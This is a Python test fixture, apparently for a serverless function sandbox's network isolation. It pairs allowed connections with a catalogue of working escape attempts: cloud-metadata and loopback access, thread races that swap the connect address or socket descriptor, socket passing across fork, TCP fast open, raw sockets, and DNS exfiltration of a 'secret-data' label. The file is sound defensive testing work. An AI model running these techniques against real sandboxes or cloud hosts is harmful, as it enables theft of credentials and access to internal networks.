"""A function that connects: as clients do, and as nobody is to. Each returns what it got or raises.

It is copied into a function's directory, so it imports nothing of the tests."""

import array
import asyncio
import contextlib
import ctypes
import errno
import os
import select
import socket
import ssl
import struct
import threading
import time
import urllib.request

libc = ctypes.CDLL(None, use_errno=True)
API, PRIVATE, METADATA = "11.1.1.2", "10.9.9.2", "169.254.169.254"
OTHER, HOST = "11.1.1.3", "11.1.1.1"
PORT, OURS = 8080, 7000
ASK = b"GET / HTTP/1.0\r\n\r\n"


def handler(event):
    asked = event.json()
    started = time.monotonic()
    try:
        got = (WORKS | ATTACKS)[asked["attack"]](asked)
    except (OSError, NotReached) as error:
        return {"error": f"{type(error).__name__}: {error}", "s": time.monotonic() - started}
    return {"got": repr(got)[:200], "s": time.monotonic() - started}


class NotReached(Exception):
    pass


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def talk(sock):
    with sock:
        sock.sendall(ASK)
        return sock.recv(1000)


def to(host, port, timeout=3.0):
    sock = socket.socket(family_of(host))
    sock.settimeout(timeout)
    sock.connect((host, port))
    return talk(sock)


def not_blocking(_):
    sock = socket.socket()
    sock.setblocking(False)
    found = sock.connect_ex((API, PORT))
    if found not in (0, errno.EINPROGRESS):
        raise OSError(found, "connect_ex")
    if not select.select([], [sock], [], 3)[1]:
        raise NotReached("not writable")
    sock.setblocking(True)
    return talk(sock)


def to_nowhere(_):
    """Blocks for a second in a thread, while others get on."""
    done = []
    sock = socket.socket()
    threading.Thread(target=lambda: done.append(sock.connect_ex((API, 8081))), daemon=True).start()
    time.sleep(0.1)
    got = to(API, PORT)
    if done:
        raise NotReached("it did not wait")
    return got


async def with_streams(host):
    reader, writer = await asyncio.open_connection(host, PORT)
    writer.write(ASK)
    got = await reader.read(1000)
    writer.close()
    return got


def with_uvloop(asked):
    import uvloop

    return uvloop.run(with_streams("api.test"))


def with_httpx(_):
    import httpx

    async def get():
        async with httpx.AsyncClient(trust_env=False) as client:
            return (await client.get(f"http://api.test:{PORT}/")).text

    return asyncio.run(get())


def with_tls(asked):
    context = ssl.create_default_context(cadata=asked["certificate"])
    with context.wrap_socket(
        socket.create_connection(("api.test", 8443), 3), server_hostname="api.test"
    ) as sock:
        return talk(sock)


def unix_listener(_):
    from multiprocessing.connection import Client, Listener

    with Listener(family="AF_UNIX") as listener:
        client = Client(listener.address)
        server = listener.accept()
        client.send("hello")
        return server.recv()


# Attacks


def sockaddr(host, port):
    return struct.pack("=H", 2) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)


def peer_is_bad(sock):
    with contextlib.suppress(OSError):
        return sock.getpeername()[0] == METADATA
    return False


def swaps_the_address(_):
    """While one thread connects, another changes what it connects to."""
    good, bad = sockaddr(API, PORT), sockaddr(METADATA, PORT)
    held = ctypes.create_string_buffer(good, 16)
    stop = []

    def swap():
        while not stop:
            ctypes.memmove(held, bad, 16)
            ctypes.memmove(held, good, 16)

    swapper = threading.Thread(target=swap)
    swapper.start()
    reached = connected = 0
    until = time.monotonic() + 3
    try:
        while not reached and time.monotonic() < until:
            with socket.socket() as sock:
                if libc.connect(sock.fileno(), held, 16) == 0:
                    connected += 1
                    reached += peer_is_bad(sock)
    finally:
        stop.append(1)
        swapper.join()
    if reached:
        return reached
    raise NotReached(f"{connected} connected")


def swaps_the_descriptor(_):
    """While one thread connects a Unix socket, another makes that descriptor a TCP socket."""
    bad = sockaddr(METADATA, PORT)
    tcp = socket.socket()
    try:
        unix = socket.socket(socket.AF_UNIX)
    except OSError:
        unix = socket.socketpair()[0]
    at = os.dup(unix.fileno())
    stop = []

    def swap():
        while not stop:
            os.dup2(tcp.fileno(), at)
            os.dup2(unix.fileno(), at)

    swapper = threading.Thread(target=swap)
    swapper.start()
    try:
        until = time.monotonic() + 3
        while time.monotonic() < until:
            libc.connect(at, bad, 16)
            if peer_is_bad(tcp):
                return "connected"
    finally:
        stop.append(1)
        swapper.join()
    raise NotReached("never")


def passes_a_socket(_):
    """To a process that it forks, which connects it and says how that went."""
    ours, theirs = socket.socketpair()
    sock = socket.socket()
    pid = os.fork()
    if pid == 0:
        _, descriptors, _, _ = socket.recv_fds(theirs, 10, 1)
        with socket.socket(fileno=descriptors[0]) as got:
            theirs.send(struct.pack("=i", got.connect_ex((METADATA, PORT))))
        os._exit(0)
    sent = array.array("i", [sock.fileno()])
    ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, sent)])
    found = struct.unpack("=i", ours.recv(4))[0]
    os.waitpid(pid, 0)
    if found:
        raise OSError(found, "in the other process")
    return "connected"


def fast_open(how):
    sock = socket.socket()
    if how == "option":
        sock.setsockopt(socket.IPPROTO_TCP, 30, 1)
        return "set"
    if how == "sendmsg":
        sock.sendmsg([ASK], [], 0x20000000, (METADATA, PORT))
    else:
        sock.sendto(ASK, 0x20000000, (METADATA, PORT))
    if not select.select([sock], [], [], 2)[0]:
        raise NotReached("no answer")
    return sock.recv(100)


def listens(address):
    sock = socket.socket()
    if address:
        sock.bind(address)
    sock.listen()
    return sock.getsockname()


def sends(host, port):
    """Nobody there says so to the second, where there is nobody."""
    sock = socket.socket(family_of(host), socket.SOCK_DGRAM)
    sock.connect((host, port))
    for _ in range(2):
        sock.send(b"x")
        time.sleep(0.1)
    return "sent"


def sends_unconnected(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(b"x", (host, port))
    time.sleep(0.1)
    sock.connect((host, port))
    sock.send(b"x")
    time.sleep(0.1)
    sock.send(b"x")
    return "sent"


def unix(kind, name):
    sock = socket.socket(socket.AF_UNIX, kind)
    sock.connect(name)
    return "connected"


def unix_pair_elsewhere(path):
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.sendto(b"x", path)


def reconnects(_):
    """Lets go of what it was allowed to connect to, and connects elsewhere."""
    sock = socket.socket()
    sock.connect((API, PORT))
    libc.connect(sock.fileno(), struct.pack("=H14x", 0), 16)
    sock.connect((METADATA, PORT))
    return talk(sock)


def by_way_of(_):
    sock = socket.socket()
    # Loose source route: a hop that the packets go to first.
    hop = socket.inet_aton("127.0.0.1")
    sock.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + hop + b"\x00")
    return "set"


def through_device(_):
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, 25, b"lo\0")
    return "set"


def asks_a_nameserver(_):
    """For a name that is not listed, by a connection."""
    name = b"".join(bytes([len(each)]) + each for each in (b"secret-data", b"other", b"test", b""))
    asked = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
    with socket.create_connection((API, 53), 3) as sock:
        sock.sendall(struct.pack(">H", len(asked)) + asked)
        got = sock.recv(1000)
    if len(got) > 6 and got[5] & 0xF == 3:
        raise NotReached("no such name")
    return got


def lingers(_):
    """Whoever closes a socket last waits until its peer has taken all: the host, where it was sent
    over the channel, with a frame of no messages."""
    sock = socket.socket()
    sock.connect((API, 8083))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 5))
    sock.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            sock.send(bytes(1 << 16))
    # In a pair's queue, so that it is no more the function's once the pair's end is sent.
    one, other = socket.socketpair()
    one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sock.fileno()]))])
    sock.close()
    one.close()
    sent = array.array("i", [other.fileno()])
    for fd in range(3, 100):
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(fd)) as channel:
            if channel.fileno() != other.fileno() and channel.type == socket.SOCK_STREAM:
                frame = struct.pack("<I", 1) + b"\x90"
                channel.sendmsg([frame], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, sent)])
                other.close()
    return "handed over"


def many_sockets(_):
    held = []
    with contextlib.suppress(OSError):
        while len(held) < 5000:
            held.append(socket.socket())
    count = len(held)
    for sock in held:
        sock.close()
    again = socket.socket()  # those that are closed count no more
    again.close()
    if count <= 2048:
        raise NotReached(str(count))
    return count


def cuts_a_name(_):
    """A NUL in a label: for whoever looks it up as a C string it is other.test."""
    name = b"\x0bother.test\0\x04wild\x04test\0"
    packet = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
    with open("/etc/resolv.conf") as file:
        server = file.read().split()[1]
    with contextlib.suppress(OSError), socket.socket() as sock:
        sock.settimeout(2)
        sock.connect((server, 53))
        sock.sendall(struct.pack(">H", len(packet)) + packet)
        sock.recv(1000)
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.5)
        sock.sendto(packet, (server, 53))
        sock.recv(1000)
    return to(OTHER, PORT)


WORKS = {
    "an address": lambda a: to(API, PORT),
    "an address, mapped into IPv6": lambda a: to(f"::ffff:{API}", PORT),
    "a name": lambda a: talk(socket.create_connection(("api.test", PORT), 3)),
    "a name below a wildcard": lambda a: talk(socket.create_connection(("a.wild.test", PORT), 3)),
    "a socket that blocks": lambda a: to(API, PORT, None),
    "a socket that does not": not_blocking,
    "one while another waits": to_nowhere,
    "urllib": lambda a: urllib.request.urlopen(f"http://api.test:{PORT}/", timeout=3).read(),
    "asyncio": lambda a: asyncio.run(with_streams("api.test")),
    "uvloop": with_uvloop,
    "httpx": with_httpx,
    "TLS": with_tls,
}
ATTACKS = {
    "the host's loopback": lambda a: to("127.0.0.1", OURS),
    "the host's loopback, IPv6": lambda a: to("::1", OURS),
    "the host's loopback, mapped into IPv6": lambda a: to("::ffff:127.0.0.1", OURS),
    "the host's loopback, as 0.0.0.0": lambda a: to("0.0.0.0", OURS),
    "the host's loopback, by name": lambda a: talk(socket.create_connection(("localhost", OURS))),
    "the host's own address": lambda a: to(HOST, OURS),
    "the host's gateway": lambda a: to("10.9.9.1", OURS),
    "a neighbour on the host's network": lambda a: to("10.9.9.3", PORT),
    "cloud metadata": lambda a: to(METADATA, PORT),
    "cloud metadata, mapped into IPv6": lambda a: to(f"::ffff:{METADATA}", PORT),
    "cloud metadata, by a name that it listed": lambda a: talk(
        socket.create_connection(("evil.test", PORT), 3)
    ),
    "the host's loopback, by a name that it listed": lambda a: talk(
        socket.create_connection(("near.test", OURS), 3)
    ),
    "an address that is swapped by a thread": swaps_the_address,
    "a descriptor that is swapped by a thread": swaps_the_descriptor,
    "a socket passed to another process": passes_a_socket,
    "a socket connected anew": reconnects,
    "TCP fast open": lambda a: fast_open("sendto"),
    "TCP fast open, sendmsg": lambda a: fast_open("sendmsg"),
    "TCP fast open, by an option": lambda a: fast_open("option"),
    "source routes": by_way_of,
    "another device": through_device,
    "a close that waits for its peer, left to the host": lingers,
    "bind and listen": lambda a: listens(("0.0.0.0", 0)),
    "listen": lambda a: listens(None),
    "UDP, the host": lambda a: sends("127.0.0.1", OURS),
    "UDP, outside": lambda a: sends(API, 9999),
    "UDP, unconnected": lambda a: sends_unconnected(API, 9999),
    "an abstract Unix socket": lambda a: unix(socket.SOCK_STREAM, "\0funcrt-victim"),
    "a Unix socket's path, from a pair": lambda a: unix_pair_elsewhere(a["unix"]),
    "raw sockets": lambda a: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
    "packet sockets": lambda a: socket.socket(17, socket.SOCK_RAW, 0),
    "netlink": lambda a: socket.socket(16, socket.SOCK_RAW, 0),
    "multipath TCP": lambda a: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262),
    "thousands of sockets": many_sockets,
}
LISTED_ONLY = {
    "a private address, listed": lambda a: to(PRIVATE, PORT),
    "an address that is not listed": lambda a: to(OTHER, PORT),
    "a port that is not listed": lambda a: to(API, 8082),
    "a name that is not listed": lambda a: socket.getaddrinfo("secret-data.other.test", 443),
    "the host's nameserver": asks_a_nameserver,
    "a name cut short, below a wildcard": cuts_a_name,
}
ATTACKS |= LISTED_ONLY
OWN_NETWORK = {"its own Unix sockets": unix_listener}
WORKS |= OWN_NETWORK
